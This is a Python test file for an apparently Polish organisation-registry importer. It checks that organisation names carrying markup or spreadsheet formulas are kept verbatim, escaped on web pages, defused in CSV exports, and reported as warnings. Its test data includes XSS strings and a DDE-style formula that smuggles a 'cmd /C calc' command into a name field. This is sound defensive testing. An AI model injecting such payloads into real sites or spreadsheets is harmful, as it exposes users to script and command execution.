"""Markup and formulas where a name should be, through every importer: kept word for word, told, escaped on pages, guarded in files."""

import csv
import io
import json
import urllib.request
from pathlib import Path

import pytest

from doors import ENTITLED, LIST, OPP, report
from harness import made_lists, made_records, website
from harness.stores import Store

MARKUP = "KLUB <SCRIPT>alert(1)</SCRIPT><img src=x onerror=alert(2)> & \"S-KA\" 'ABC'"
FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Kliknij")'
NAMES = [MARKUP, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "+48 KLUB", "-KLUB-"]


def _file(source: str, folder: Path) -> list[str]:
    """Five bodies with these names, and the command that brings them in."""
    path = folder / f"{source}.csv"
    match source:
        case "opp" | "opp-entitled" | "list":
            door, place = {"opp": (OPP, 2), "opp-entitled": (ENTITLED, 1), "list": (LIST, 1)}[source]
            header, *rows = door.rows(range(len(NAMES)))
            for row, name in zip(rows, NAMES, strict=True):
                row[place] = name
            return door.command(made_lists.write_csv(path, [header, *rows]))
        case "krs":
            records = list(made_records.made_records(len(NAMES)))
            for record, name in zip(records, NAMES, strict=True):
                record["odpis"]["dane"]["dzial1"]["danePodmiotu"]["nazwa"] = name
            path.write_text("".join(json.dumps(record) + "\n" for record in records))
    if source == "bir":
        text = made_lists.replies(range(len(NAMES)))
        for index, name in enumerate(NAMES):
            text = text.replace(made_lists.name(index).upper(), name.replace("&", "&amp;").replace("<", "&lt;"))
        path = path.with_suffix(".xml")
        path.write_text(text)
    return ["import", source, str(path)]


@pytest.mark.parametrize("source", ["krs", "opp", "opp-entitled", "list", "bir"])
def test_a_name_is_text_wherever_it_goes(source: str, store: Store, tmp_path: Path) -> None:
    done, _ = report(store, tmp_path / "raport.csv", _file(source, tmp_path))
    assert done.code == 0, done.complained
    kept = sorted(row[0] or "" for row in store.rows("SELECT official_name FROM organisation"))
    assert kept == sorted(NAMES)

    with website.serving(store.address, tmp_path / "serve.log") as base:
        ids = [row[0] for row in store.rows("SELECT id FROM organisation ORDER BY id")]
        pages = [
            _fetch(f"{base}/organizacje?q=klub"),
            _fetch(f"{base}/organizacje"),
            *(_fetch(f"{base}/organizacje/{number}/x") for number in ids),
        ]
        table = _fetch(f"{base}/organizacje.csv")
    for page in pages:
        lower = page.lower()
        assert "<script>alert" not in lower
        assert "<img src=x" not in lower
        assert 'href="http://example.org' not in lower
    assert any("&lt;script&gt;alert(1)" in page.lower() for page in pages), "the name is shown, as text"
    rows = list(csv.DictReader(io.StringIO(table, newline="")))
    assert sorted(row["official_name"] for row in rows) == sorted(name if name[0] == "K" else f"'{name}" for name in NAMES)
    assert not [value for row in rows for value in row.values() if value.startswith(("=", "@", "+", "-"))]


def test_whoever_sent_a_list_is_told_of_names_that_look_like_code(store: Store, tmp_path: Path) -> None:
    _, told = report(store, tmp_path / "raport.csv", _file("list", tmp_path))
    assert [(row["rodzaj"], row["wiersz"], row["pole"]) for row in told] == [("ostrzeżenie", str(line), "nazwa") for line in (2, 3, 4)]
    # The report is opened in a spreadsheet as well.
    assert not [value for row in told for value in row.values() if value.startswith(("=", "@"))]


def _fetch(address: str) -> str:
    with urllib.request.urlopen(address, timeout=30) as reply:
        return reply.read().decode()
